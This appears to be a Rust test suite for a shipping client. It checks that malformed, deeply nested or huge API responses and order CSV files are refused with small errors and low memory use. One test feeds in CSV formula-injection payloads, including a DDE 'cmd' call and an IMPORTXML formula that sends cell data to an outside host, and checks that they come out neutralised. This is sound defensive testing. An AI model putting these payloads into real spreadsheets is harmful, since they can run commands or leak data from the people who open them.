//! Answers and files that are made to hurt: each ends as an error in words or
//! as harmless text, and memory stays small.

use std::{fmt::Write as _, fs, sync::Arc};

use async_trait::async_trait;
use rstest::rstest;
use sendoff::{
    features::orders::{FailedRow, OrderFile, write_failed},
    model::{ids::ShipmentId, money::Currency},
    service::{
        client::{ReadApi, WriteApi},
        error::ApiError,
        operations::{RefreshRequest, ShipmentFilter},
        transport::{Request, Response, Transport, TransportError},
    },
};

use crate::support::memory;

/// What a list may weigh at most before it comes to be read.
const LIST_BYTES: usize = 64_000_000;

/// Gives the same bytes to every question.
struct Says(Vec<u8>);

#[async_trait]
impl Transport for Says {
    async fn send(&self, _request: Request) -> Result<Response, TransportError> {
        Ok(Response {
            status: 200,
            body: self.0.clone(),
            ..Response::default()
        })
    }
}

fn client(body: impl Into<Vec<u8>>) -> ReadApi {
    ReadApi::new(Arc::new(Says(body.into())), Currency::Cad)
}

/// The same piece again and again between two ends.
fn many(start: &str, piece: &str, end: &str, bytes: usize) -> String {
    let times = bytes / piece.len();
    format!("{start}{}{end}", piece.repeat(times))
}

fn refused<T: std::fmt::Debug>(outcome: Result<T, ApiError>) {
    let error = outcome.unwrap_err();
    assert!(error.is_outcome_unknown(), "{error:?}");
    let words = error.to_string();
    assert!(words.len() < 600, "{} characters", words.len());
    memory::assert_small();
}

#[rstest]
#[case::empty_lists(many("[", "[],", "0]", LIST_BYTES))]
#[case::tiny_shipments(many("[", r#"{"shipment_id":"A"},"#, "0]", LIST_BYTES))]
#[case::empty_shipments(many("[", "{},", "{}]", LIST_BYTES))]
#[case::wrapped_numbers(many(r#"{"shipments":["#, "0,", "0]}", LIST_BYTES))]
#[case::names_without_end(many("{", r#""a":0,"#, r#""shipments":[]}x"#, LIST_BYTES))]
#[case::as_deep_as_it_goes(many("", "[", "", LIST_BYTES))]
#[case::objects_as_deep(many("", r#"{"a":"#, "", LIST_BYTES))]
#[case::two_lists(r#"{"shipments":[],"batches":[]}"#.to_owned())]
#[case::more_than_a_page(many("[", r#"{"shipment_id":"A"},"#, r#"{"shipment_id":"A"}]"#, 40_000))]
#[case::no_end("[{".to_owned())]
#[case::words_after(r"[] and more".to_owned())]
#[case::a_page_of_words(many("<", "a ", "", LIST_BYTES))]
#[case::only_room(" ".repeat(1_000_000))]
#[tokio::test]
async fn a_list_that_is_none_is_refused_small(#[case] body: String) {
    refused(
        client(body)
            .list_shipments(&ShipmentFilter::default())
            .await,
    );
}

#[rstest]
#[case::deep(many(r#"{"shipment":"#, "[", "", 900_000))]
#[case::deep_in_a_field(many(r#"{"shipment":{"shipment_id":"A","x":"#, "[", "", 900_000))]
#[case::a_number_of_a_million_digits(many(
    r#"{"shipment":{"shipment_id":"A","value":"#,
    "9",
    "}}",
    900_000
))]
#[case::a_list_for_an_object("[]".to_owned())]
#[case::no_object("null".to_owned())]
#[case::twice(r#"{"shipment":{"shipment_id":"A","shipment_id":"B"}}"#.to_owned())]
#[case::a_price_that_is_none(r#"{"shipment":{"shipment_id":"A","rates":[{"total":"NaN"}]}}"#.to_owned())]
#[case::a_name_that_is_a_number(r#"{"shipment":{"shipment_id":7e999}}"#.to_owned())]
#[tokio::test]
async fn a_shipment_that_is_none_is_refused_small(#[case] body: String) {
    refused(client(body).retrieve_shipment(&ShipmentId::new("A")).await);
}

#[rstest]
#[case::not_utf8(b"{\"shipment\":{\"shipment_id\":\"\xff\xfe\"}}".to_vec())]
#[case::half_a_letter(br#"{"shipment":{"shipment_id":"\ud800"}}"#.to_vec())]
#[case::nothing_but_zeros(vec![0; 900_000])]
#[tokio::test]
async fn bytes_that_are_no_text_are_refused_small(#[case] body: Vec<u8>) {
    refused(client(body).retrieve_shipment(&ShipmentId::new("A")).await);
}

#[tokio::test]
async fn an_answer_about_another_shipment_is_no_answer() {
    let body = r#"{"shipment":{"id":"OTHER","status":"ready","tracking_code":"T"}}"#;
    let id = ShipmentId::new("A");
    let error = client(body).retrieve_shipment(&id).await.unwrap_err();
    assert!(error.is_outcome_unknown(), "{error:?}");
    assert!(!error.to_string().contains("OTHER"), "{error}");
    let api = WriteApi::new(Arc::new(Says(body.into())), Currency::Cad);
    let answers = [
        api.buy_postage(&id, None).await,
        api.refresh_rates(&id, &RefreshRequest::default()).await,
        api.request_refund(&id).await,
    ];
    for answer in answers {
        assert_eq!(answer.unwrap_err(), error);
    }
    let own = client(body.replace("OTHER", "A"))
        .retrieve_shipment(&id)
        .await;
    assert_eq!(own.unwrap().id, id);
}

const HEADER: &str = "order_id,name,address_1,city,country_code,value,value_currency,\
    package_type,weight_unit,weight,size_unit,size_x,size_y,size_z";

#[rstest]
fn a_cell_that_is_a_formula_is_text_in_the_file_of_failed_rows_and_comes_back_as_it_was(
    #[values(
        "=1+1",
        "=cmd|'/c calc'!A0",
        "=HYPERLINK(\"http://evil.example\";\"x\")",
        "+SUM(A1:A2)",
        "-2+3+cmd",
        "@SUM(1)",
        "\u{ff1d}1+1",
        "  =1+1",
        "'=1+1",
        "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"
    )]
    hostile: &str,
) {
    let folder = tempfile::tempdir().unwrap();
    let orders = folder.path().join("orders.csv");
    let cell = format!("\"{}\"", hostile.replace('"', "\"\""));
    let row = format!("1,{cell},1,P,FR,9,usd,parcel,g,65,cm,1,2,3");
    fs::write(&orders, format!("{HEADER}\n{row}\n")).unwrap();
    let file = OrderFile::read(&orders).unwrap();
    let failed = [FailedRow {
        row: 1,
        reason: hostile.to_owned(),
        column: None,
    }];
    let written = write_failed(folder.path(), &file, &failed)
        .unwrap()
        .path
        .unwrap();

    let mut reader = csv::Reader::from_path(&written).unwrap();
    for record in reader.records() {
        for cell in &record.unwrap() {
            let seen = cell.trim_start();
            assert!(!seen.starts_with(['=', '+', '@', '\u{ff1d}']), "{cell}");
            assert!(!seen.starts_with("-2+"), "{cell}");
        }
    }
    let again = OrderFile::read(&written).unwrap();
    let name = &file.rows().next().unwrap().order.name;
    assert_eq!(&again.rows().next().unwrap().order.name, name);
}

fn an_order_file(text: &[u8]) -> Option<OrderFile> {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("orders.csv");
    fs::write(&path, text).unwrap();
    let file = OrderFile::read(&path).ok();
    memory::assert_small();
    file
}

#[test]
fn a_row_of_a_million_cells_is_one_bad_row() {
    let text = format!("{HEADER}\n{}\n", ",".repeat(1_000_000));
    let file = an_order_file(text.as_bytes()).unwrap();
    assert!(file.rows().next().unwrap().surplus_cells > 0);
}

#[test]
fn a_header_of_a_million_names_is_read_small() {
    let mut text = HEADER.to_owned();
    for number in 0..200_000 {
        write!(text, ",x{number}").unwrap();
    }
    assert!(an_order_file(text.as_bytes()).is_some());
}

#[rstest]
#[case::nothing(Vec::new())]
#[case::zeros(vec![0; 100_000])]
#[case::no_text(vec![0xff; 100_000])]
#[case::an_open_quote(b"\"order_id,name".to_vec())]
#[case::a_program(b"\x7fELF\x02\x01\x01\0\0".to_vec())]
fn a_file_that_is_no_order_file_is_refused(#[case] bytes: Vec<u8>) {
    assert!(an_order_file(&bytes).is_none());
}
